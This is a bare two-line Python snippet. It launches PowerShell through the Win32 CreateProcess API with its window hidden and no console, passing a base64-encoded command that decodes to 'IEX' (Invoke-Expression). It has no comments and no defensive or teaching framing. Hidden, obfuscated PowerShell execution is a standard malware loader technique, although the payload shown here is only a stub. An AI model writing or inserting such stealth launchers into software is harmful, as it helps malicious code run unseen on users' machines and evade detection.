import win32process, win32con
win32process.CreateProcess(None, "powershell -w hidden -enc SQBFAFgA", None, None, False, win32con.CREATE_NO_WINDOW, None, None, win32process.STARTUPINFO())
